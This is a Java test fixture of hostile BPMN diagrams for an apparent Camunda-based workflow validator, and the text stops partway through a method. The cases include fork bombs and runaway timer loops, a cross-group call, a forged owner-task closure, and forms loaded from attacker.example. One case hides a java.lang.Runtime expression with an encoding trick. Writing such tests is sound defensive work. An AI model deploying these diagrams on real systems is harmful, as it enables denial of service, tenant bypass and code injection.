package io.qunflow.workflow;

import static io.qunflow.workflow.HostileBpmn.process;

import java.util.ArrayList;
import java.util.List;

/**
 * Hostile diagrams that run no code of their own but reach past what a group's workflow may do:
 * flows that copy themselves into millions of executions (at once or a little more at every wait),
 * a condition the flow makes true itself, a call that acts for another group, an owner-task step
 * closing any group's owner task, a Qunflow task run from an event so its inputs escape their check,
 * a form Camunda's Tasklist would load from another site, and nesting deep enough to overflow the
 * checks. Part of {@link HostileBpmn#all}.
 */
final class HostileFlowBpmn {

    private HostileFlowBpmn() {}

    static List<HostileBpmn.Case> all() {
        List<HostileBpmn.Case> cases = new ArrayList<>();
        cases.add(new HostileBpmn.Case("parallel gateways doubling the flow fourteen times", forkBomb(14), "T14"));
        cases.add(new HostileBpmn.Case("a multi-instance inside a multi-instance sub-process", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:subProcess id="Outer"><bpmn:incoming>F0</bpmn:incoming><bpmn:outgoing>F1</bpmn:outgoing>
                  <bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>
                  <bpmn:startEvent id="InnerStart"><bpmn:outgoing>I0</bpmn:outgoing></bpmn:startEvent>
                  <bpmn:task id="Inner"><bpmn:incoming>I0</bpmn:incoming><bpmn:outgoing>I1</bpmn:outgoing>
                    <bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>
                  </bpmn:task>
                  <bpmn:endEvent id="InnerEnd"><bpmn:incoming>I1</bpmn:incoming></bpmn:endEvent>
                  <bpmn:sequenceFlow id="I0" sourceRef="InnerStart" targetRef="Inner" />
                  <bpmn:sequenceFlow id="I1" sourceRef="Inner" targetRef="InnerEnd" />
                </bpmn:subProcess>
                <bpmn:endEvent id="End"><bpmn:incoming>F1</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Outer" />
                <bpmn:sequenceFlow id="F1" sourceRef="Outer" targetRef="End" />"""), "Inner"));
        cases.add(new HostileBpmn.Case("a waiting loop that doubles every round", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:exclusiveGateway id="Again"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F5</bpmn:incoming><bpmn:incoming>F6</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:exclusiveGateway>
                <bpmn:parallelGateway id="Split"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing><bpmn:outgoing>F4</bpmn:outgoing></bpmn:parallelGateway>
                <bpmn:intermediateCatchEvent id="Tomorrow"><bpmn:incoming>F3</bpmn:incoming><bpmn:incoming>F4</bpmn:incoming><bpmn:outgoing>F5</bpmn:outgoing><bpmn:outgoing>F6</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT1M</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Again" />
                <bpmn:sequenceFlow id="F2" sourceRef="Again" targetRef="Split" />
                <bpmn:sequenceFlow id="F3" sourceRef="Split" targetRef="Tomorrow" />
                <bpmn:sequenceFlow id="F4" sourceRef="Split" targetRef="Tomorrow" />
                <bpmn:sequenceFlow id="F5" sourceRef="Tomorrow" targetRef="Again" />
                <bpmn:sequenceFlow id="F6" sourceRef="Tomorrow" targetRef="Again" />"""), "Again"));
        cases.add(
                new HostileBpmn.Case("a non-interrupting reminder that starts its task again", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:exclusiveGateway id="Again"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:exclusiveGateway>
                <bpmn:userTask id="Ask"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F4</bpmn:outgoing></bpmn:userTask>
                <bpmn:boundaryEvent id="Tick" attachedToRef="Ask" cancelActivity="false"><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R/PT1M</bpmn:timeCycle></bpmn:timerEventDefinition>
                </bpmn:boundaryEvent>
                <bpmn:endEvent id="End"><bpmn:incoming>F4</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Again" />
                <bpmn:sequenceFlow id="F2" sourceRef="Again" targetRef="Ask" />
                <bpmn:sequenceFlow id="F3" sourceRef="Tick" targetRef="Again" />
                <bpmn:sequenceFlow id="F4" sourceRef="Ask" targetRef="End" />"""), "Again"));
        // Camunda leaves the event at once when its condition holds: the loop never waits.
        cases.add(new HostileBpmn.Case("a loop waiting on a condition that already holds", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:serviceTask id="Measure" camunda:delegateExpression="${measureActivityDelegate}"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:intermediateCatchEvent id="Measured"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:conditionalEventDefinition><bpmn:condition xsi:type="bpmn:tFormalExpression">${activityRate >= 0}</bpmn:condition></bpmn:conditionalEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Measure" />
                <bpmn:sequenceFlow id="F2" sourceRef="Measure" targetRef="Measured" />
                <bpmn:sequenceFlow id="F3" sourceRef="Measured" targetRef="Measure" />"""), "Measured"));
        // No loop of flows at all: the boundary's own path changes a variable, which fires it again.
        cases.add(new HostileBpmn.Case(
                "a non-interrupting condition its own path sets off again", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:userTask id="Ask"><bpmn:incoming>F1</bpmn:incoming></bpmn:userTask>
                <bpmn:boundaryEvent id="OnChange" attachedToRef="Ask" cancelActivity="false"><bpmn:outgoing>F2</bpmn:outgoing>
                  <bpmn:conditionalEventDefinition><bpmn:condition xsi:type="bpmn:tFormalExpression">${true}</bpmn:condition></bpmn:conditionalEventDefinition>
                </bpmn:boundaryEvent>
                <bpmn:serviceTask id="Measure" camunda:delegateExpression="${measureActivityDelegate}"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:endEvent id="End"><bpmn:incoming>F3</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Ask" />
                <bpmn:sequenceFlow id="F2" sourceRef="OnChange" targetRef="Measure" />
                <bpmn:sequenceFlow id="F3" sourceRef="Measure" targetRef="End" />"""), "OnChange"));
        cases.add(new HostileBpmn.Case(
                "a multi-instance call, each called process copying itself again", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:callActivity id="Call" calledElement="some-wide-process">
                  <bpmn:incoming>F0</bpmn:incoming><bpmn:outgoing>F1</bpmn:outgoing>
                  <bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>
                </bpmn:callActivity>
                <bpmn:userTask id="Wait"><bpmn:incoming>F1</bpmn:incoming></bpmn:userTask>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Call" />
                <bpmn:sequenceFlow id="F1" sourceRef="Call" targetRef="Wait" />"""), "Call"));
        cases.add(new HostileBpmn.Case(
                "a call that runs the called process for another group", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:callActivity id="Call" calledElement="group-lifecycle">
                  <bpmn:extensionElements><camunda:in businessKey="someone-elses-group" /></bpmn:extensionElements>
                  <bpmn:incoming>F0</bpmn:incoming><bpmn:outgoing>F1</bpmn:outgoing>
                </bpmn:callActivity>
                <bpmn:userTask id="Wait"><bpmn:incoming>F1</bpmn:incoming></bpmn:userTask>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Call" />
                <bpmn:sequenceFlow id="F1" sourceRef="Call" targetRef="Wait" />"""), "businessKey"));
        cases.add(new HostileBpmn.Case("a Qunflow task run by a message event, inputs unchecked", """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                    xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="D" targetNamespace="t">
                  <bpmn:message id="Msg" name="Pay" />
                  <bpmn:process id="hostile" isExecutable="true" camunda:historyTimeToLive="P1D">
                    <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                    <bpmn:intermediateThrowEvent id="Pay">
                      <bpmn:extensionElements><camunda:inputOutput>
                        <camunda:inputParameter name="reward">RED_ENVELOPE</camunda:inputParameter>
                        <camunda:inputParameter name="amountCents">-500</camunda:inputParameter>
                      </camunda:inputOutput></bpmn:extensionElements>
                      <bpmn:incoming>F0</bpmn:incoming><bpmn:outgoing>F1</bpmn:outgoing>
                      <bpmn:messageEventDefinition messageRef="Msg" camunda:delegateExpression="${grantRewardDelegate}" />
                    </bpmn:intermediateThrowEvent>
                    <bpmn:endEvent id="End"><bpmn:incoming>F1</bpmn:incoming></bpmn:endEvent>
                    <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Pay" />
                    <bpmn:sequenceFlow id="F1" sourceRef="Pay" targetRef="End" />
                  </bpmn:process>
                </bpmn:definitions>
                """, "amountCents"));
        cases.add(new HostileBpmn.Case(
                "an owner-task step in a group's workflow, closing any owner task", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:serviceTask id="Forge" camunda:delegateExpression="${recordOwnerTaskOutcomeDelegate}">
                  <bpmn:extensionElements><camunda:inputOutput>
                    <camunda:inputParameter name="taskId">another-groups-owner-task</camunda:inputParameter>
                    <camunda:inputParameter name="outcome">DONE</camunda:inputParameter>
                    <camunda:inputParameter name="outcomeBy">admin</camunda:inputParameter>
                  </camunda:inputOutput></bpmn:extensionElements>
                  <bpmn:incoming>F0</bpmn:incoming><bpmn:outgoing>F1</bpmn:outgoing>
                </bpmn:serviceTask>
                <bpmn:endEvent id="End"><bpmn:incoming>F1</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Forge" />
                <bpmn:sequenceFlow id="F1" sourceRef="Forge" targetRef="End" />"""), "Forge"));
        cases.add(new HostileBpmn.Case(
                "a staff task whose form Tasklist would load from another site", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:userTask id="Phish" camunda:formKey="embedded:https://attacker.example/form.html">
                  <bpmn:incoming>F0</bpmn:incoming></bpmn:userTask>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Phish" />"""), "camunda:formKey"));
        cases.add(new HostileBpmn.Case(
                "a start form Tasklist would load from another site", process("""
                <bpmn:startEvent id="Start" camunda:formKey="embedded:https://attacker.example/start.html"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:userTask id="Wait"><bpmn:incoming>F0</bpmn:incoming></bpmn:userTask>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Wait" />"""), "camunda:formKey"));
        cases.add(new HostileBpmn.Case(
                "sub-processes nested thousands deep",
                process("<bpmn:startEvent id=\"Start\" />"
                        + "<bpmn:subProcess id=\"S\">".repeat(3000)
                        + "</bpmn:subProcess>".repeat(3000)),
                "nest more than"));
        // Read as Shift_JIS, the bytes of 七 swallow the brace after it: the text checked as
        // "${x七}" and plain text would run as one expression calling methods.
        cases.add(new HostileBpmn.Case(
                "an encoding that hides an expression's end",
                process("""
                        <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                        <bpmn:serviceTask id="Hidden" camunda:expression="${x七}b.getClass().forName('java.lang.Runtime')}">
                          <bpmn:incoming>F0</bpmn:incoming></bpmn:serviceTask>
                        <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Hidden" />""").replace("encoding=\"UTF-8\"", "encoding=\"Shift_JIS\""),
                "camunda:expression"));
        // Once a minute is bounded per firing; without a count it is 1,440 new paths a day, forever.
        cases.add(new HostileBpmn.Case(
                "a non-interrupting reminder that repeats forever", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:userTask id="Ask"><bpmn:incoming>F1</bpmn:incoming></bpmn:userTask>
                <bpmn:boundaryEvent id="Forever" attachedToRef="Ask" cancelActivity="false"><bpmn:outgoing>F2</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R/PT1M</bpmn:timeCycle></bpmn:timerEventDefinition>
                </bpmn:boundaryEvent>
                <bpmn:serviceTask id="Measure" camunda:delegateExpression="${measureActivityDelegate}"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:endEvent id="End"><bpmn:incoming>F3</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Ask" />
                <bpmn:sequenceFlow id="F2" sourceRef="Forever" targetRef="Measure" />
                <bpmn:sequenceFlow id="F3" sourceRef="Measure" targetRef="End" />"""), "repeats without end"));
        cases.add(new HostileBpmn.Case(
                "a timer start that starts a million instances", process("""
                <bpmn:startEvent id="Million"><bpmn:outgoing>F1</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeCycle xsi:type="bpmn:tFormalExpression">R1000000/PT1M</bpmn:timeCycle></bpmn:timerEventDefinition>
                </bpmn:startEvent>
                <bpmn:userTask id="Wait"><bpmn:incoming>F1</bpmn:incoming></bpmn:userTask>
                <bpmn:sequenceFlow id="F1" sourceRef="Million" targetRef="Wait" />"""), "at most 1000 times"));
        // A timer that waits no time, or a date the second round is past, is a cycle with no floor:
        // each round its own job, one after the other, for ever.
        cases.add(new HostileBpmn.Case("a loop whose timer waits no time", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:exclusiveGateway id="Again"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F4</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:exclusiveGateway>
                <bpmn:serviceTask id="Measure" camunda:delegateExpression="${measureActivityDelegate}"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:intermediateCatchEvent id="NoTime"><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F4</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT0S</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Again" />
                <bpmn:sequenceFlow id="F2" sourceRef="Again" targetRef="Measure" />
                <bpmn:sequenceFlow id="F3" sourceRef="Measure" targetRef="NoTime" />
                <bpmn:sequenceFlow id="F4" sourceRef="NoTime" targetRef="Again" />"""), "NoTime"));
        cases.add(new HostileBpmn.Case(
                "a loop waiting for a date it is past after one round", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:exclusiveGateway id="Again"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F4</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:exclusiveGateway>
                <bpmn:serviceTask id="Measure" camunda:delegateExpression="${measureActivityDelegate}"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:intermediateCatchEvent id="LaunchDay"><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F4</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDate xsi:type="bpmn:tFormalExpression">2026-12-12T20:00:00+08:00</bpmn:timeDate></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Again" />
                <bpmn:sequenceFlow id="F2" sourceRef="Again" targetRef="Measure" />
                <bpmn:sequenceFlow id="F3" sourceRef="Measure" targetRef="LaunchDay" />
                <bpmn:sequenceFlow id="F4" sourceRef="LaunchDay" targetRef="Again" />"""), "LaunchDay"));
        cases.add(new HostileBpmn.Case(
                "a staff task whose reminder fires at once and starts it again", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:exclusiveGateway id="Again"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:exclusiveGateway>
                <bpmn:userTask id="Ask"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F4</bpmn:outgoing></bpmn:userTask>
                <bpmn:boundaryEvent id="AtOnce" attachedToRef="Ask"><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT1S</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:boundaryEvent>
                <bpmn:endEvent id="End"><bpmn:incoming>F4</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Again" />
                <bpmn:sequenceFlow id="F2" sourceRef="Again" targetRef="Ask" />
                <bpmn:sequenceFlow id="F3" sourceRef="AtOnce" targetRef="Again" />
                <bpmn:sequenceFlow id="F4" sourceRef="Ask" targetRef="End" />"""), "AtOnce"));
        cases.addAll(timerVariablesTheDiagramSets());
        cases.addAll(timersThatComeRoundAtOnce());
        cases.addAll(loopsStartedAgainByEachMessage());
        return cases;
    }

    /**
     * A non-interrupting event starts another path every time it fires, while what it is attached
     * to keeps waiting: a path that loops (even one that waits) then adds a loop that never ends at
     * every calendar change, and the group's workflow runs thousands of them.
     */
    private static List<HostileBpmn.Case> loopsStartedAgainByEachMessage() {
        String message = "<bpmn:message id=\"Msg\" name=\"SopCalendarChanged\" />\n  <bpmn:process ";
        String loop = """
                <bpmn:task id="Post"><bpmn:incoming>L1</bpmn:incoming><bpmn:incoming>L3</bpmn:incoming><bpmn:outgoing>L2</bpmn:outgoing></bpmn:task>
                <bpmn:intermediateCatchEvent id="Tick"><bpmn:incoming>L2</bpmn:incoming><bpmn:outgoing>L3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT1H</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="L2" sourceRef="Post" targetRef="Tick" />
                <bpmn:sequenceFlow id="L3" sourceRef="Tick" targetRef="Post" />""";
        List<HostileBpmn.Case> cases = new ArrayList<>();
        cases.add(new HostileBpmn.Case(
                "a non-interrupting event sub-process that starts a loop at every message",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:userTask id="Ask"><bpmn:incoming>F1</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:userTask>
                <bpmn:endEvent id="End"><bpmn:incoming>F2</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Ask" />
                <bpmn:sequenceFlow id="F2" sourceRef="Ask" targetRef="End" />
                <bpmn:subProcess id="OnEachChange" triggeredByEvent="true">
                  <bpmn:startEvent id="EachChange" isInterrupting="false"><bpmn:outgoing>L1</bpmn:outgoing><bpmn:messageEventDefinition messageRef="Msg" /></bpmn:startEvent>
                  <bpmn:sequenceFlow id="L1" sourceRef="EachChange" targetRef="Post" />
                """ + loop + """
                </bpmn:subProcess>""").replace("<bpmn:process ", message),
                "EachChange"));
        cases.add(new HostileBpmn.Case(
                "a non-interrupting message boundary that starts a loop at every message",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:userTask id="Ask"><bpmn:incoming>F1</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:userTask>
                <bpmn:boundaryEvent id="EachChange" attachedToRef="Ask" cancelActivity="false"><bpmn:outgoing>L1</bpmn:outgoing><bpmn:messageEventDefinition messageRef="Msg" /></bpmn:boundaryEvent>
                <bpmn:endEvent id="End"><bpmn:incoming>F2</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Ask" />
                <bpmn:sequenceFlow id="F2" sourceRef="Ask" targetRef="End" />
                <bpmn:sequenceFlow id="L1" sourceRef="EachChange" targetRef="Post" />
                """ + loop).replace("<bpmn:process ", message),
                "EachChange"));
        cases.add(new HostileBpmn.Case(
                "a non-interrupting message boundary that calls a looping process at every message",
                twoProcesses("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:userTask id="Ask"><bpmn:incoming>F1</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:userTask>
                <bpmn:boundaryEvent id="EachChange" attachedToRef="Ask" cancelActivity="false"><bpmn:outgoing>L1</bpmn:outgoing><bpmn:messageEventDefinition messageRef="Msg" /></bpmn:boundaryEvent>
                <bpmn:callActivity id="Call" calledElement="helper"><bpmn:incoming>L1</bpmn:incoming><bpmn:outgoing>L2</bpmn:outgoing></bpmn:callActivity>
                <bpmn:endEvent id="End"><bpmn:incoming>F2</bpmn:incoming><bpmn:incoming>L2</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Ask" />
                <bpmn:sequenceFlow id="F2" sourceRef="Ask" targetRef="End" />
                <bpmn:sequenceFlow id="L1" sourceRef="EachChange" targetRef="Call" />
                <bpmn:sequenceFlow id="L2" sourceRef="Call" targetRef="End" />""", helperProcess("""
                <bpmn:task id="HelperPost"><bpmn:incoming>H1</bpmn:incoming><bpmn:incoming>H3</bpmn:incoming><bpmn:outgoing>H2</bpmn:outgoing></bpmn:task>
                <bpmn:intermediateCatchEvent id="HelperTick"><bpmn:incoming>H2</bpmn:incoming><bpmn:outgoing>H3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT1H</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="H2" sourceRef="HelperPost" targetRef="HelperTick" />
                <bpmn:sequenceFlow id="H3" sourceRef="HelperTick" targetRef="HelperPost" />""")).replaceFirst("<bpmn:process ", message),
                "EachChange"));
        return cases;
    }

    /**
     * Loops whose wait is over as soon as it starts, though no variable the diagram sets says so: an
     * event-based gateway whose timer fires at once, a date reached in the first round and never
     * planned again, a time Qunflow records of the past, a variable that comes from outside.
     */
    private static List<HostileBpmn.Case> timersThatComeRoundAtOnce() {
        List<HostileBpmn.Case> cases = new ArrayList<>();
        cases.add(new HostileBpmn.Case(
                "an event-based gateway whose timer fires at once",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:eventBasedGateway id="Choose"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F5</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing><bpmn:outgoing>F3</bpmn:outgoing></bpmn:eventBasedGateway>
                <bpmn:intermediateCatchEvent id="Reply"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F6</bpmn:outgoing><bpmn:messageEventDefinition messageRef="Msg" /></bpmn:intermediateCatchEvent>
                <bpmn:intermediateCatchEvent id="AtOnce"><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F4</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">PT0S</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:task id="Work"><bpmn:incoming>F4</bpmn:incoming><bpmn:outgoing>F5</bpmn:outgoing></bpmn:task>
                <bpmn:endEvent id="End"><bpmn:incoming>F6</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Choose" />
                <bpmn:sequenceFlow id="F2" sourceRef="Choose" targetRef="Reply" />
                <bpmn:sequenceFlow id="F3" sourceRef="Choose" targetRef="AtOnce" />
                <bpmn:sequenceFlow id="F4" sourceRef="AtOnce" targetRef="Work" />
                <bpmn:sequenceFlow id="F5" sourceRef="Work" targetRef="Choose" />
                <bpmn:sequenceFlow id="F6" sourceRef="Reply" targetRef="End" />""").replace("<bpmn:process ", "<bpmn:message id=\"Msg\" name=\"Stop\" />\n  <bpmn:process "),
                "Choose"));
        cases.add(new HostileBpmn.Case(
                "a loop that waits for the next post time but never plans it again",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:serviceTask id="Plan" camunda:delegateExpression="${planNextSopPostDelegate}"><bpmn:incoming>F1</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:intermediateCatchEvent id="NextPost"><bpmn:incoming>F2</bpmn:incoming><bpmn:incoming>F4</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDate xsi:type="bpmn:tFormalExpression">${nextPostAt}</bpmn:timeDate></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:serviceTask id="Send" camunda:delegateExpression="${sendSopPostsDelegate}"><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F4</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Plan" />
                <bpmn:sequenceFlow id="F2" sourceRef="Plan" targetRef="NextPost" />
                <bpmn:sequenceFlow id="F3" sourceRef="NextPost" targetRef="Send" />
                <bpmn:sequenceFlow id="F4" sourceRef="Send" targetRef="NextPost" />"""),
                "planNextSopPostDelegate"));
        cases.add(new HostileBpmn.Case("a loop that waits for the time of the last post", process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:serviceTask id="Send" camunda:delegateExpression="${sendSopPostsDelegate}"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:serviceTask>
                <bpmn:intermediateCatchEvent id="LastPost"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDate xsi:type="bpmn:tFormalExpression">${lastPostAt}</bpmn:timeDate></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Send" />
                <bpmn:sequenceFlow id="F2" sourceRef="Send" targetRef="LastPost" />
                <bpmn:sequenceFlow id="F3" sourceRef="LastPost" targetRef="Send" />"""), "lastPostAt"));
        cases.add(new HostileBpmn.Case(
                "a loop that waits as long as a variable from outside says",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:task id="Post"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:task>
                <bpmn:intermediateCatchEvent id="Pause"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">${pause}</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Post" />
                <bpmn:sequenceFlow id="F2" sourceRef="Post" targetRef="Pause" />
                <bpmn:sequenceFlow id="F3" sourceRef="Pause" targetRef="Post" />"""),
                "launchPeriod, promotionPeriod"));
        return cases;
    }

    /**
     * A loop that waits on a variable (${topicInterval}) the diagram sets itself comes round at once:
     * to zero by an output parameter, an input parameter on the waiting task, a mapping into a
     * called process, every variable a called process set, a date already past.
     */
    private static List<HostileBpmn.Case> timerVariablesTheDiagramSets() {
        String waitOnTopicInterval = """
                <bpmn:intermediateCatchEvent id="NextTopic"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">${topicInterval}</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Post" />
                <bpmn:sequenceFlow id="F2" sourceRef="Post" targetRef="NextTopic" />
